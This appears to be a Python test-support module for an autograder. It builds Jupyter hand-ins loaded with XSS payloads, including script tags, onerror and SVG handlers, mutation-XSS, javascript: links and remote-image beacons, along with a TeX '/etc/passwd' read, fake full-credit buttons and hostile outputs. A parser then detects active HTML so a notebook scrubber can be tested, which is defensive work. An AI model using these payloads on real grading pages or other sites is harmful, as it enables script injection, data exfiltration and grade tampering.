"""Hostile notebooks, pages as nbgrader's formgrader and nbconvert make them, and what is active in a page."""

from __future__ import annotations

import base64
import copy
import functools
import re
from collections import Counter
from html.parser import HTMLParser
from typing import Any

from feedback_kit import autograded, read
from nbformat import NotebookNode, v4

from autograder.authoring.prepare import prepare
from autograder.authoring.snapshot import Snapshot
from autograder.course import Course, load_config
from autograder.execution.scrub import scrub

NAME = "network_from_scratch"
ANSWER = "C-seen"
DOT = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="


def payloads(to: str) -> dict[str, str]:
    """Markdown that calls `to` in all ways in which a page can be made to, or acts on the formgrader itself."""

    def js(tag: str) -> str:
        return f"(new Image).src='{to}?{tag}'"

    return {
        "script": f"<script>{js('script')}</script>",
        "script-in-text": f"I think a < b, so <script>{js('inline')}</script> it is.",
        "script-upper": f"<ScRiPt\n>{js('upper')}</sCrIpT >",
        "script-src": f"<script src={to}?src></script>",
        "onerror": f'<img src=x onerror="{js("onerror")}">',
        "onerror-slashes": f"<img/src=x/onerror={js('slashes')}>",
        "svg": f'<svg onload="{js("svg")}"></svg><svg><animate onbegin="{js("begin")}" attributeName=x dur=1s></svg>',
        "math": f'<math><mtext><img src=x onerror="{js("mtext")}"></mtext></math>',
        "mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x '
        f'onerror={js("mutation")}&gt;"></table></mtext></math>',
        "noscript": f'<noscript><p title="</noscript><img src=x onerror={js("noscript")}>"></noscript>',
        "iframe": f'<iframe srcdoc="<script>{js("srcdoc")}</script>"></iframe><iframe src="{to}?iframe"></iframe>',
        "details": f'<details open ontoggle="{js("toggle")}">x</details>',
        "object": f'<object data="{to}?object"></object><embed src="{to}?embed">',
        "media": f'<video src="{to}?video" autoplay></video><audio src="{to}?audio" autoplay onerror="{js("audio")}">',
        "link": f'<link rel=stylesheet href="{to}?css">',
        "style": f'<style>@import "{to}?import"; body {{background: url({to}?background)}}</style>',
        "style-attribute": f'<div style="background:url({to}?attribute)">x</div>',
        "overlay": '<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:9999">x</div>',
        "meta": f'<meta http-equiv=refresh content="0;url={to}?meta">',
        "base": f'<base href="{to}/">',
        "form": f'<form action="{to}"><button autofocus onfocus="{js("focus")}">x</button></form>',
        "comment": f"<!-- --!><script>{js('comment')}</script> -->",
        "instruction": f"<?xml ?><![CDATA[<script>{js('cdata')}</script>]]>",
        "remote-image": f"![x]({to}?image)",
        "remote-image-title": f'![a [b] c](<{to}?titled> "t")',
        "remote-image-reference": f"![x][r]\n\n[r]: {to}?reference",
        "remote-image-collapsed": f"![r][] ![r]\n\n> [r]: {to}?collapsed",
        "remote-image-html": f'<img src="{to}?html" srcset="{to}?srcset 2x">',
        "same-server-image": "![x](/logout) ![y](../../../logout) ![z](next)",
        "javascript-link": f"[click](javascript:{js('click')})",
        "javascript-link-entities": f"[click](&#106;avascript&colon;{js('entities')})",
        "javascript-link-space": f"[click](<java\tscript:{js('tab')}>) [x](\x01javascript:{js('control')})",
        "javascript-reference": f"[click][j]\n\n[j]: javascript:{js('definition')}",
        "javascript-autolink": f"<javascript:{js('autolink')}>",
        "javascript-html": f'<a href="javascript:{js("anchor")}">click</a>',
        "data-link": f"[click](data:text/html,<script>{js('data')}</script>)",
        "relative-link": "[click](evil.html) [click](/formgrader/manage_students/%22;alert(1);%22)",
        "own-server-link": "[click](http://localhost:8888/formgrader/manage_students/x) http://127.0.0.1:8888/logout",
        "mermaid": f'```mermaid\n<img src=x onerror="{js("mermaid")}">\n```',
        "fence-name": f'```"><img/src=x/onerror={js("info")}>\nx\n```',
        "unclosed-fence": f"```\n````\n<script>{js('fence')}</script>\n```",
        "code-that-is-none": f"`` ` <script>{js('ticks')}</script> `",
        "escaped-backslash": f"\\\\<script>{js('backslash')}</script>",
        "table": f'| a | b |\n|---|---|\n| <img src=x onerror="{js("cell")}"> | x |',
        "heading": f'# <img src=x onerror="{js("heading")}">',
        "closes-everything": f"</pre></code></div></div></div></body></html><script>{js('closes')}</script>",
        "formula-link": f"$\\href{{javascript:{js('href')}}}{{x}}$",
        "formula-style": f"$$\\style{{background:url({to}?formula)}}{{x}}$$ \\\\(\\class{{full-credit}}{{x}}\\\\)",
        "formula-require": "$\\require{html}\\cssId{x}{y}$ $\\unicode{x}$ \\begin{align}\\href{x}{y}\\end{align}",
        "formula-tag": f'$x$<img src=x onerror="{js("formula")}">$y$',
        "tex-file": "$\\input{/etc/passwd}$ \\include{secret} \\write18{id}",
        "button-of-the-page": '<b class="full-credit mark-graded">Full credit</b>',
        "id-of-the-page": f"# {ANSWER}\n\n<p id={ANSWER}>x</p>",
        "id-of-the-page-spaced": f"# {ANSWER.replace('-', ' ')}\n\n{ANSWER}-comment\n===",
        "checkbox": '<input type="checkbox" onfocus="x" autofocus>',
        "attachment": "![x](attachment:x.svg) ![y](attachment:none.png)",
        "nested": ">" * 200 + " <script>x</script>",
    }


def outputs(to: str) -> list[NotebookNode]:
    """One output of each kind that carries the same."""

    def js(tag: str) -> str:
        return f"(new Image).src='{to}?{tag}'"

    def shown(data: dict[str, Any], kind: str = "display_data", **metadata: Any) -> NotebookNode:
        more = {"execution_count": 1} if kind == "execute_result" else {}
        return v4.new_output(kind, data=data, metadata=metadata, **more)

    image, script = f'<img src=x onerror="{js("{}")}">', f"<script>{js('{}')}</script>"
    said, alt = "<IPython.core.display.{} object>", f'" onload="{js("oalt")}'
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="{js("osvg")}">'
        f'<script>{js("osvgscript")}</script><image xlink:href="{to}?osvgimage"/><rect width="9" height="9"/></svg>'
    )
    found = [
        shown({"text/html": script.format("ohtml") + image.format("oimage"), "text/plain": said.format("HTML")}),
        shown({"text/html": f"<table><tr><td onclick='x'>cell{script.format('otable')}</td></tr></table>"}),
        shown({"text/html": f"<b>x</b>{image.format('oresult')}", "text/plain": "x"}, "execute_result"),
        shown({"text/html": script.format("oisolated")}, **{"text/html": {"isolated": True}}),
        shown({"text/html": "<b>$\\href{javascript:x}{y}$</b>"}),
        shown({"application/javascript": js("ojavascript"), "text/plain": said.format("Javascript")}),
        shown({"image/svg+xml": svg}),
        shown({"text/markdown": image.format("omarkdown") + f" ![x]({to}?omdimage) [x](javascript:x)"}),
        shown({"text/latex": "$\\href{javascript:x}{y}$" + image.format("olatex")}),
        shown({"text/vnd.mermaid": image.format("omermaid")}),
        shown({"application/vnd.jupyter.widget-view+json": {"model_id": f"</script>{script.format('owidget')}"}}),
        shown({"application/vnd.plotly.v1+json": {"x": script.format("oplotly")}, "application/pdf": "x"}),
        shown({"image/png": DOT}, filenames={"image/png": f"{to}?ofile"}),
        shown({"image/png": DOT}, **{"image/png": {"width": f"1 onload={js('owidth')}", "alt": alt}}),
        shown({"image/jpeg": f'x" onerror="{js("ojpeg")}'}),
        v4.new_output("stream", text=f"{script.format('ostream')} \x1b[31m<b>red</b>\x1b]8;;javascript:x\x07y"),
        v4.new_output("error", ename=image.format("oename"), evalue=script.format("oevalue"), traceback=[script]),
    ]  # fmt: skip
    return found


@functools.cache
def snapshot() -> Snapshot:
    return prepare(Course(), NAME).snapshot


def hand_in(answer: str = "", cells: list[NotebookNode] | None = None, put_out: list[NotebookNode] | None = None,
            to: str = "", whole: bool = False) -> NotebookNode:  # fmt: skip
    """A rebuilt and executed hand-in with this answer, these cells behind it, and a code cell with these outputs.

    Only the part around the answer, unless the `whole` is asked for.
    """
    notebook = copy.deepcopy(_right())
    place = next(i for i, c in enumerate(notebook.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == ANSWER)
    if answer:
        notebook.cells[place].source = answer
        script = base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{to}"/>'.encode()).decode()
        notebook.cells[place]["attachments"] = {"x.svg": {"image/svg+xml": script}, "fig.png": {"image/png": DOT}}
    made = list(cells or [])
    if put_out:
        made.append(v4.new_code_cell("x = 1", id="made-outputs", outputs=put_out, execution_count=1))
    notebook.cells[place + 1 : place + 1] = made
    if not whole:
        notebook.cells = notebook.cells[place - 1 : place + 2 + len(made)]
    return notebook


@functools.cache
def _right() -> NotebookNode:
    return autograded(NAME)


def everything(to: str, whole: bool = True, without: tuple[str, ...] = ()) -> NotebookNode:
    """All payloads by all roads in one hand-in."""
    found = {name: one for name, one in payloads(to).items() if name not in without}
    cells = [v4.new_markdown_cell(one, id=f"md-{name}") for name, one in found.items()]
    raw = {"raw_mimetype": "text/html"}
    cells += [v4.new_raw_cell(one, id=f"raw-{name}", metadata=raw) for name, one in found.items()]
    answer = found["script-in-text"] + "\n\n" + found["onerror"]
    return hand_in(answer, cells, outputs(to), f"(new Image).src='{to}?attached'", whole)


def scrubbed(notebook: NotebookNode) -> NotebookNode:
    notebook = copy.deepcopy(notebook)
    scrub(notebook, snapshot())
    return notebook


@functools.cache
def _exporter(template: str) -> Any:
    from nbconvert.exporters import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers

    config = load_config()
    config.HTMLExporter.template_name = template
    config.HTMLExporter.mathjax_url = "/mathjax.js"
    if template == "formgrade":  # as nbgrader's FormgradeExtension has it
        config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    return HTMLExporter(config=config)


def page(notebook: NotebookNode, template: str = "formgrade", student: str = "zoe") -> str:
    resources = {
        "assignment_id": NAME, "notebook_id": NAME, "submission_id": "s1", "index": 0, "total": 2, "base_url": "",
        "student": student, "last_name": None, "first_name": None,
        "notebook_path": f"autograded/{student}/{NAME}/{NAME}.ipynb",
    }  # fmt: skip
    made, _ = _exporter(template).from_notebook_node(copy.deepcopy(notebook), resources)
    return str(made)


LOADS = {"href", "src", "srcset", "action", "formaction", "poster", "background", "data", "xlink:href", "ping", "cite",
         "manifest", "srcdoc", "content", "http-equiv"}  # fmt: skip
HARMLESS = {
    *("html", "head", "body", "main", "div", "p", "span", "a", "b", "i", "u", "s", "em", "strong", "sub", "sup", "nav"),
    *("small", "mark", "kbd", "del", "ins", "code", "pre", "blockquote", "ul", "ol", "li", "dl", "dt", "dd", "table"),
    *("caption", "thead", "tbody", "tfoot", "tr", "th", "td", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6"),
    *("details", "summary", "math", "mi", "mo", "mn", "mtext", "mspace", "mrow", "mfrac", "msub", "msup", "msubsup"),
    *("munder", "mover", "munderover", "msqrt", "mroot", "mtable", "mtr", "mtd", "mstyle"),
}
LINK = re.compile(r"#[^\s]*\Z|https://[a-z0-9-]+(\.[a-z0-9-]+)+(/\S*)?\Z")
PICTURE = re.compile(r"data:image/(png|jpeg|gif|webp|svg\+xml);base64,[A-Za-z0-9+/=]*\Z|[\w-]+\.png\Z")
ROLES = {"full-credit", "no-credit", "mark-graded", "score", "extra-credit", "comment", "tabbable", "nbgrader_cell"}


class _Active(HTMLParser):
    """What is active in a page, in a browser's reading or in a lenient one. Written apart from what it tests."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: Counter[str] = Counter()
        self.words: list[str] = []
        self.silent = 0

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attributes}
        fine = (tag == "a" and LINK.match(given.get("href", "#"))) or (
            tag == "img" and PICTURE.match(given.get("src", ""))
        )
        box = tag == "input" and given.get("type") == "checkbox" and "disabled" in given
        if tag not in HARMLESS and tag != "img" and not box:
            self.found[f"<{tag}>{given.get('src', '')[:50]}"] += 1
        for name, value in given.items():
            if name.startswith("on") or (name in LOADS and not fine):
                self.found[f"{tag} {name}={value[:60]}"] += 1
            if name == "style" and re.search(r"url|\(|position|z-index|:\s*-\d", value):
                self.found[f"style {value[:60]}"] += 1
            if (
                name == "id"
                and not value.startswith("cell-id")
                and re.sub("-comment$|_extra_credit$", "", value) in snapshot().known
            ):
                self.found[f"id {value}"] += 1
            if name == "class":
                self.found.update(f"class {one}" for one in value.split() if one in ROLES)
        self.silent += tag in ("script", "style")

    def handle_endtag(self, tag: str) -> None:
        self.silent -= tag in ("script", "style") and self.silent > 0

    def handle_data(self, data: str) -> None:
        if not self.silent:
            self.words.append(data)

    def handle_comment(self, data: str) -> None:
        self.found[f"<!--{data[:40]}"] += 1


def active(text: str) -> Counter[str]:
    parser = _Active()
    parser.feed(text)
    parser.close()
    return parser.found


def text_of(html: str) -> str:
    parser = _Active()
    parser.feed(html)
    parser.close()
    return "".join(parser.words)


@functools.cache
def usual(template: str = "formgrade") -> Counter[str]:
    """What is active in the page of a harmless hand-in: the template's own."""
    return active(page(_right(), template))


__all__ = [
    "ANSWER", "DOT", "NAME", "active", "everything", "hand_in", "outputs", "page", "payloads", "read", "scrubbed",
    "snapshot", "text_of", "usual",
]  # fmt: skip
